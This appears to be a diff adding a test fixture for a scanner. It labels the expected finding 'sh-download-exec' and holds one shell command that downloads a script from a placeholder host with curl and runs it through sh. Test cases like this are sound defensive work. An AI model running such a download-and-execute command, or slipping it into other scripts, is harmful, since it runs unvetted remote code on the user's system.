@@ -1,0 +1,2 @@
+# expect: sh-download-exec
+sh -c "$(curl -fsSL https://x.example/b.sh)"
